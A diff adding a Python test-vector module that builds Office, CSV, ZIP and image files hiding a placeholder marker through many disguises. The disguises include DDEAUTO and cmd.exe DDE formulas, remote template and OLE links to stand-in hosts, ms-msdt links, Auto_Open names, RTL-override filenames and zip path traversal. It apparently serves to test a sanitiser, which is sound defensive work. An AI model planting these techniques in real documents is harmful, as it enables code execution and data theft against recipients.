@@ -1,0 +1,234 @@
+"""vectors: what an attacker puts into files, each in three disguises, as changes to files that are made in packages.py.
+
+Each is (name, base, [three changes]); `base` makes a file, a change alters it. For packages a change is a function of a Package;
+for other files it gives the bytes and the name. MARK stands in what is dangerous: it may be in no output.
+"""
+import io
+import struct
+import zipfile
+
+from packages import A, OFFICE, STRICT, TYPE, W, X, bmp, bmp_with_profile, chunk, emf, excel, gif, png, slides, wmf, word
+
+MARK = 'mark-of-danger'
+MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006'
+MICROSOFT = 'http://schemas.microsoft.com/office'
+CUSTOM_UI = f'<customUI xmlns="{MICROSOFT}/2006/01/customui" onLoad="{MARK}"><ribbon/></customUI>'
+
+
+def in_body(text):
+    return lambda made: made.edit('word/document.xml', '<w:sectPr ?/>|<w:sectPr></w:sectPr>', text + '<w:sectPr/>')
+
+
+def run(inner):
+    return f'<w:p><w:r>{inner}</w:r></w:p>'
+
+
+def in_sheet(text, where='</worksheet>'):
+    return lambda made: made.edit('xl/worksheets/sheet1.xml', where, text + where)
+
+
+def in_slide(text):
+    return lambda made: made.edit('ppt/slides/slide1.xml', '</p:spTree>', text + '</p:spTree>')
+
+
+def part(source, kind, name, text, content_type, where=None):
+    """A part with its relationship."""
+    def change(made):
+        made.add_part(name, text, content_type)
+        made.add_way(source, 'rIdDanger', kind, where or '/' + name)
+    return change
+
+
+def both(*changes):
+    def change(made):
+        for one in changes:
+            one(made)
+    return change
+
+
+def way(source, kind, target, mode='External'):
+    return lambda made: made.add_way(source, 'rIdDanger', kind, target, mode)
+
+
+def settings(text):
+    return lambda made: made.edit('word/settings.xml', '</w:settings>', text + '</w:settings>')
+
+
+def branch(text, space, prefix):
+    return (f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice xmlns:{prefix}="{space}" Requires="{prefix}">{text}</mc:Choice>'
+            f'<mc:Fallback>{text}</mc:Fallback></mc:AlternateContent>')
+
+
+def field(*pieces, end=True):
+    """Runs of an instruction, a piece each; what is no plain text stands as it is."""
+    runs = ''.join(piece if piece.startswith('<') else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    return f'<w:p>{mark.format("begin")}{runs}{mark.format("separate")}<w:r><w:t>結果</w:t></w:r>{mark.format("end") if end else ""}</w:p>'
+
+
+def references(text):
+    return ''.join(f'&#x{ord(letter):x};' for letter in text)
+
+
+# ---- Office ----
+
+DDE = f'DDEAUTO c:\\\\cmd.exe {MARK}'
+WORD_ROWS = [
+    ('custom-ui', [part('', f'{MICROSOFT}/2006/relationships/ui/extensibility', 'customUI/customUI.xml', CUSTOM_UI, None),
+                   part('', f'{MICROSOFT}/2007/relationships/ui/extensibility', 'word/x.xml', CUSTOM_UI.replace('2006/01', '2009/07'), 'application/xml'),
+                   in_body(CUSTOM_UI.replace('customUI', 'm:customUI').replace('xmlns=', 'xmlns:m=').replace('<ribbon/>', ''))]),
+    ('frames', [both(way('word/webSettings.xml', 'frame', f'http://{MARK}.example/'),
+                     lambda made: made.edit('word/webSettings.xml', '<w:optimizeForBrowser ?/>', '<w:frameset><w:frame><w:sourceFileName xmlns:r="' + OFFICE
+                                            + '" r:id="rIdDanger"/></w:frame></w:frameset>')),
+                lambda made: made.edit('word/webSettings.xml', '<w:optimizeForBrowser ?/>', f'<z:frameset xmlns:z="{W}"><z:frame><z:name z:val="{MARK}"/></z:frame></z:frameset>'),
+                lambda made: made.edit('word/webSettings.xml', '<w:optimizeForBrowser ?/>',
+                                       branch(f'<w:frameset><w:frame><w:longDesc w:val="{MARK}"/></w:frame></w:frameset>', MICROSOFT + '/word/2010/wordml', 'w14'))]),
+    ('web-extensions', [part('', f'{MICROSOFT}/2011/relationships/webextensiontaskpanes', 'word/webextensions/taskpanes.xml',
+                             f'<wetp:taskpanes xmlns:wetp="{MICROSOFT}/webextensions/taskpanes/2010/11"><wetp:taskpane visibility="1" id="{MARK}"/></wetp:taskpanes>',
+                             'application/vnd.ms-office.webextensiontaskpanes+xml'),
+                        part('word/document.xml', f'{MICROSOFT}/2011/relationships/webextension', 'word/media/w.xml',
+                             f'<we:webextension xmlns:we="{MICROSOFT}/webextensions/webextension/2010/11" id="{MARK}"/>', 'application/vnd.ms-office.webextension+xml'),
+                        in_body(f'<x:webextensionref xmlns:x="{MICROSOFT}/webextensions/webextension/2010/11" id="{MARK}"/>')]),
+    ('data-mashup', [part('word/document.xml', 'customXml', 'customXml/item1.xml', f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{MARK}</DataMashup>', 'application/xml'),
+                     part('', STRICT + '/customXml', 'word/header9.xml', f'<d:DataMashup xmlns:d="http://schemas.microsoft.com/DataMashup">{MARK}</d:DataMashup>',
+                          TYPE + 'customXmlProperties+xml'),
+                     in_body(f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{MARK}</DataMashup>')]),
+    ('dde-field', [in_body(field(' D', 'DE', f'AUTO c:\\\\cmd.exe {MARK}')),
+                   in_body(field(references(DDE))),
+                   in_body(f'<w:p><w:fldSimple w:instr="{references(DDE)}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')]),
+    ('fields', [in_body(field(f' includepicture &quot;http://{MARK}.example/&quot; \\d ')),
+                in_body(field('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', 'QUOTE 68 68 69', '<w:r><w:fldChar w:fldCharType="end"/></w:r>', f' {MARK} x')),
+                in_body(field('<w:r><w:t xml:space="preserve"> DDE </w:t></w:r>', f'{MARK} x', end=True))]),
+    ('fields-of-changes', [in_body(field('<w:ins w:id="7" w:author="a"><w:r><w:instrText>PAGE </w:instrText></w:r></w:ins>', f'DDE {MARK} x')),
+                           in_body(field('<w:del w:id="7" w:author="a"><w:r><w:delInstrText>DDE </w:delInstrText></w:r></w:del>', f'{MARK} x')),
+                           in_body(field(f'HYPERLINK &quot;\\\\\\\\{MARK}\\\\share&quot;'))]),
+    ('type-disguise', [lambda made: made.add_part('word/media/image1.png', MARK, 'application/vnd.ms-office.vbaProject'),
+                       both(lambda made: made.parts.update({'word/media/image1.png': MARK.encode()})),
+                       both(part('word/document.xml', 'image', 'word/media/x.jpg', f'MZ{MARK}', 'image/jpeg'))]),
+    ('foreign-content', [both(part('word/document.xml', 'aFChunk', 'word/a.html', f'<html>{MARK}</html>', 'text/html'),
+                              in_body(f'<w:altChunk xmlns:r="{OFFICE}" r:id="rIdDanger"/>')),
+                         both(part('word/document.xml', STRICT + '/aFChunk', 'word/a.xml', MARK, 'application/rtf'), in_body(f'<w:altChunk xmlns:r="{STRICT}" r:id="rIdDanger"/>')),
+                         in_body(branch(f'<w:altChunk xmlns:r="{OFFICE}" r:id="{MARK}"/>', MICROSOFT + '/word/2010/wordml', 'w14'))]),
+    ('objects', [both(part('word/document.xml', 'oleObject', 'word/embeddings/o.bin', MARK, TYPE + 'oleObject'),
+                      in_body(run(f'<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{OFFICE}" Type="Embed" ProgID="Package" r:id="rIdDanger"/></w:object>'))),
+                 both(way('word/document.xml', 'oleObject', f'mhtml:http://{MARK}.example/!x'),
+                      in_body(run(f'<w:object><q:OLEObject xmlns:q="urn:schemas-microsoft-com:office:office" xmlns:r="{OFFICE}" Type="Link" UpdateMode="Always" r:id="rIdDanger"/></w:object>'))),
+                 in_body(run(f'<w:control xmlns:r="{OFFICE}" w:name="{MARK}" r:id="rId2"/>'))]),
+    ('mail-merge', [settings(f'<w:mailMerge><w:query w:val="{MARK}"/></w:mailMerge>'),
+                    both(settings(f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rIdDanger"/>'), way('word/settings.xml', 'attachedTemplate', f'http://{MARK}.example/t.dotm')),
+                    settings(f'<k:docVars xmlns:k="{W}"><k:docVar k:name="a" k:val="{MARK}"/></k:docVars>')]),
+    ('links', [both(way('word/document.xml', 'hyperlink', f'javascript:{MARK}'),
+                    in_body(f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdDanger"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>')),
+               way('word/document.xml', 'hyperlink', f'file://{MARK}/x'),
+               way('word/document.xml', STRICT + '/hyperlink', f'search-ms:{MARK}')]),
+    ('linked-pictures', [both(way('word/document.xml', 'image', f'http://{MARK}.example/a.png'), lambda made: made.edit('word/document.xml', 'r:embed=', 'r:link="rIdDanger" r:embed=')),
+                         in_body(run(f'<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://{MARK}.example/a.png"/></v:shape></w:pict>')),
+                         in_body(run(f'<w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(http://{MARK}.example/)"/></w:pict>'))]),
+    ('declarations', [lambda made: made.parts.update({'word/settings.xml': f'<!DOCTYPE x [<!ENTITY a "{MARK}">]>'.encode() + made.parts['word/settings.xml'].split(b'?>')[-1]}),
+                      lambda made: made.parts.update({'word/settings.xml': f'<?xml-stylesheet href="{MARK}"?>'.encode() + made.parts['word/settings.xml'].split(b'?>')[-1]}),
+                      in_body(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{MARK}"/>')]),
+    ('left-behind', [lambda made: made.add_part('word/vbaProject.bin', MARK, 'application/vnd.ms-office.vbaProject'),
+                     lambda made: made.add_part('unknown.xml', f'<x>{MARK}</x>', 'application/xml'),
+                     part('word/document.xml', 'http://example.com/own', 'word/own.xml', f'<x>{MARK}</x>', TYPE + 'theme+xml')]),
+    ('metafiles', [part('word/document.xml', 'image', 'word/media/a.emf', emf((70, struct.pack('<I', 16) + b'GDIC' + MARK.encode()[:12])), 'image/x-emf'),
+                   part('word/document.xml', 'image', 'word/media/a.emf', emf((106, struct.pack('<II', 1, 16) + MARK.encode()[:12] + bytes(4))), 'image/x-emf'),
+                   part('word/document.xml', 'image', 'word/media/a.wmf', wmf((0x0626, struct.pack('<HH', 15, 14) + MARK.encode())), 'image/x-wmf')]),
+    ('bitmap-profiles', [part('word/document.xml', 'image', 'word/media/a.bmp', bmp_with_profile(b'LINK', f'\\\\{MARK}\\p\0'.encode()), 'image/bmp'),
+                         part('word/document.xml', 'image', 'word/media/a.bmp', bmp_with_profile(b'MBED', MARK.encode()), 'image/bmp'),
+                         part('word/document.xml', 'image', 'word/media/a.bmp', bmp(tail=MARK.encode()), 'image/bmp')]),
+]
+
+EXTERNAL_WAYS = ['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'image', 'audio', 'video', 'externalLink', 'externalLinkPath', 'aFChunk', 'mailMergeSource',
+                 'mailMergeHeaderSource', 'transform', 'attachedSchema', 'slideUpdateUrl', 'customXml', 'package', 'control', 'font', 'styles', 'settings', 'theme', 'header',
+                 'comments', 'officeDocument']
+WORD_ROWS += [(f'external-{kind}', [way('word/document.xml', kind, f'http://{MARK}.example/a'), way('word/document.xml', f'{STRICT}/{kind}', f'\\\\{MARK}\\a'),
+                                    way('word/document.xml', f'{STRICT}/{kind}'.upper(), f'file:///{MARK}')]) for kind in EXTERNAL_WAYS]
+
+
+def formula(text):
+    return lambda made: made.edit('xl/worksheets/sheet1.xml', r'SUM\(B1:C1\)', text)
+
+
+def name(attributes, text):
+    return lambda made: made.edit('xl/workbook.xml', '</definedNames>', f'<definedName {attributes}>{text}</definedName></definedNames>')
+
+
+EXCEL_ROWS = [
+    ('calls', [formula(f'WEBSERVICE(&quot;http://{MARK}.example/&quot;)'), formula(references(f'_xlfn.IMAGE("http://{MARK}.example/")')),
+               formula(f'IF(1,<![CDATA[CALL("{MARK}","x","J")]]>,2)')]),
+    ('dde', [formula(f"cmd|'/c {MARK}'!A0"), formula(references(f"cmd|'/c {MARK}'!A0")), formula(f"SUM(1)+<![CDATA[MSEXCEL|'{MARK}']]>!x")]),
+    ('other-books', [formula('[1]集計!A1'), formula(f"'\\\\{MARK}\\[b.xlsx]集計'!A1"), name('name="b"', f"'[{MARK}.xlsx]x'!A1")]),
+    ('running-names', [name('name="_xlnm.Auto_Open"', '集計!$A$1'), name('name="auto_OPENx" hidden="1"', '集計!$A$1'), name('name="f" function="1" vbProcedure="1"', '集計!$A$1')]),
+    ('connections', [part('xl/workbook.xml', 'connections', 'xl/connections.xml', f'<connections xmlns="{X}"><connection id="1" name="{MARK}"/></connections>',
+                          TYPE + 'spreadsheetml.connections+xml'),
+                     part('xl/workbook.xml', STRICT + '/externalLink', 'xl/externalLinks/e.xml', f'<externalLink xmlns="{X}"><ddeLink ddeService="cmd" ddeTopic="{MARK}"/></externalLink>',
+                          TYPE + 'spreadsheetml.externalLink+xml'),
+                     in_sheet(f'<extLst><ext uri="{{{MARK}}}"><q:connection xmlns:q="{MICROSOFT}/spreadsheetml/2010/11/main"/></ext></extLst>')]),
+    ('macro-sheets', [part('xl/workbook.xml', f'{MICROSOFT}/2006/relationships/xlMacrosheet', 'xl/macrosheets/s.xml',
+                           f'<xm:macrosheet xmlns:xm="{MICROSOFT}/excel/2006/main">{MARK}</xm:macrosheet>', 'application/vnd.ms-excel.macrosheet+xml'),
+                      part('xl/workbook.xml', 'dialogsheet', 'xl/dialogsheets/s.xml', f'<dialogsheet xmlns="{X}"><!--{MARK}--></dialogsheet>', TYPE + 'spreadsheetml.dialogsheet+xml'),
+                      both(part('xl/workbook.xml', 'worksheet', 'xl/worksheets/s.xml', f'<xm:macrosheet xmlns:xm="{MICROSOFT}/excel/2006/main">{MARK}</xm:macrosheet>',
+                                TYPE + 'spreadsheetml.worksheet+xml'),
+                           lambda made: made.edit('xl/workbook.xml', '</sheets>', '<sheet name="x" sheetId="9" r:id="rIdDanger"/></sheets>'))]),
+    ('buttons', [both(in_sheet('<legacyDrawing r:id="rIdDanger"/>'), part('xl/worksheets/sheet1.xml', 'vmlDrawing', 'xl/drawings/v.vml',
+                      '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel" ObjectType="Button">'
+                      f'<x:FmlaMacro>{MARK}</x:FmlaMacro></x:ClientData></v:shape></xml>', TYPE + 'vmlDrawing')),
+                 both(in_sheet('<drawing r:id="rIdDanger"/>'), part('xl/worksheets/sheet1.xml', 'drawing', 'xl/drawings/d.xml',
+                      '<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><d:absoluteAnchor><d:pos x="0" y="0"/><d:ext cx="9" cy="9"/>'
+                      f'<d:sp macro="{MARK}" textlink=""/><d:clientData/></d:absoluteAnchor></d:wsDr>', TYPE + 'drawing+xml')),
+                 in_sheet(f'<controls><control shapeId="1" name="{MARK}"/></controls>')]),
+    ('links-of-cells', [both(way('xl/worksheets/sheet1.xml', 'hyperlink', f'ms-msdt:{MARK}'), in_sheet('<hyperlinks><hyperlink ref="A1" r:id="rIdDanger"/></hyperlinks>')),
+                        in_sheet(f'<hyperlinks><hyperlink ref="A1" location="\\\\{MARK}\\x"/></hyperlinks>'),
+                        in_sheet(f'<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="{MARK}"/></webPublishItems>')]),
+]
+CLICK = '<p:sp><p:nvSpPr><p:cNvPr id="9" name="x">{}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>'
+SLIDE_ROWS = [
+    ('actions', [in_slide(CLICK.format(f'<a:hlinkClick r:id="" action="ppaction://macro?name={MARK}"/>')), in_slide(CLICK.format(f'<a:hlinkHover r:id="" action="ppaction://program?{MARK}"/>')),
+                 in_slide(CLICK.format(f'<z:hlinkClick xmlns:z="{A}" r:id="" action="{references("ppaction://ole?verb=0&" + MARK)}"/>'))]),
+    ('objects', [in_slide(f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="x"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm>'
+                          f'<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="{MARK}" progId="Package"><p:embed/></p:oleObj>'
+                          '</a:graphicData></a:graphic></p:graphicFrame>'),
+                 part('ppt/slides/slide1.xml', 'oleObject', 'ppt/embeddings/o.bin', MARK, TYPE + 'oleObject'),
+                 in_slide(f'<p:contentPart r:id="{MARK}"/>')]),
+    ('media', [both(way('ppt/slides/slide1.xml', 'video', f'http://{MARK}.example/v'), in_slide(CLICK.format('').replace('<p:nvPr/>', '<p:nvPr><a:videoFile r:link="rIdDanger"/></p:nvPr>'))),
+               part('ppt/slides/slide1.xml', f'{MICROSOFT}/2007/relationships/media', 'ppt/media/m.mp4', MARK, 'video/mp4'),
+               in_slide(CLICK.format(f'<a:hlinkClick r:id=""><a:snd r:embed="" name="{MARK}"/></a:hlinkClick>'))]),
+    ('commands', [lambda made: made.edit('ppt/slides/slide1.xml', '</p:sld>', f'<p:timing><p:tnLst><p:cmd type="verb" cmd="{MARK}"><p:cBhvr><p:cTn id="1"/><p:tgtEl><p:sldTgt/></p:tgtEl></p:cBhvr></p:cmd>'
+                                         '</p:tnLst></p:timing></p:sld>'),
+                  part('ppt/slides/slide1.xml', 'tags', 'ppt/tags/t.xml', f'<t:tagLst xmlns:t="http://schemas.openxmlformats.org/presentationml/2006/main"><t:tag name="{MARK}" val=""/></t:tagLst>',
+                       TYPE + 'presentationml.tags+xml'),
+                  lambda made: made.edit('ppt/slides/slide1.xml', '</p:sld>', f'<p:custDataLst><p:tags r:id="{MARK}"/></p:custDataLst></p:sld>')]),
+]
+PACKAGES = [(word, 'docx', WORD_ROWS), (excel, 'xlsx', EXCEL_ROWS), (slides, 'pptx', SLIDE_ROWS)]
+
+# ---- other files: name and bytes ----
+
+
+def packed(*members):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w') as archive:
+        for member, data in members:
+            archive.writestr(zipfile.ZipInfo(member), data)
+    return out.getvalue()
+
+
+def table(text):
+    return 'a.csv', ('品名,数\n' + text + '\n').encode()
+
+
+FILES = [
+    ('full-width-formulas', [table(f'"＝cmd|\'/c {MARK}\'!A0",1'), table(f'" ＋SUM(1)*{MARK}|x!y",1'), table(f'1,"\u3000＠WEBSERVICE({MARK})"')]),
+    ('formulas', [table(f'=1+{MARK},1'), table(f'"a\n=HYPERLINK({MARK})",1'), table(f'1,\t-2+cmd|{MARK}!A0')]),
+    ('direction-marks', [('a.txt', f'あ\u202e{MARK}'.encode()), ('a.csv', f'あ,\u2066{MARK}\n'.encode()), ('a.txt', f'あ\x1b]0;{MARK}\x07'.encode())]),
+    ('names-that-turn', [('a.zip', packed(('申請\u202etxt.exe', MARK))), ('a.zip', packed(('\u2066a.txt', MARK), ('b.txt', 'x'))), ('a.zip', packed(('a\u200b.txt', MARK)))]),
+    ('colliding-names', [('a.zip', packed(('A.txt', 'x'), ('a.TXT', MARK))), ('a.zip', packed(('ａ.txt', 'x'), ('a.txt', MARK))), ('a.zip', packed(('ガ.txt', 'x'), ('か\u3099.txt'.replace('か', 'カ'), MARK)))]),
+    ('paths', [('a.zip', packed(('../a.txt', MARK))), ('a.zip', packed(('C:/a.txt', MARK))), ('a.zip', packed(('con.txt', MARK)))]),
+    ('programs', [('a.zip', packed(('a.js', MARK), ('b.txt', 'x'))), ('a.zip', packed(('a.jpg.exe', f'MZ{MARK}'), ('b.txt', 'x'))), ('a.zip', packed(('a．ｌｎｋ', MARK), ('b.txt', 'x')))]),
+    ('disguised-members', [('a.zip', packed(('a.png', f'MZ{MARK}'))), ('a.zip', packed(('a.docx', MARK))), ('a.zip', packed(('a', f'<html>{MARK}</html>')))]),
+    ('chunks', [('a.png', png(chunk(b'tEXt', MARK.encode()))), ('a.png', png(behind=MARK.encode())), ('a.png', png(pixels=MARK.encode()))]),
+    ('blocks', [('a.gif', gif(b'!\xfe' + bytes([len(MARK)]) + MARK.encode() + b'\0')), ('a.gif', gif(behind=MARK.encode())),
+                ('a.gif', gif(b'!\xff\x0bXMP DataXMP' + bytes([len(MARK)]) + MARK.encode() + b'\0'))]),
+    ('profiles', [('a.bmp', bmp_with_profile(b'LINK', MARK.encode())), ('a.bmp', bmp_with_profile(b'MBED', MARK.encode())), ('a.bmp', bmp(tail=MARK.encode()))]),
+    ('records', [('a.emf', emf((70, struct.pack('<I', 14) + MARK.encode() + bytes(2)))), ('a.emf', emf((121, struct.pack('<III', 0, 14, 0) + MARK.encode() + bytes(2)))),
+                 ('a.wmf', wmf((0x0626, struct.pack('<HH', 15, 14) + MARK.encode())))]),
+]
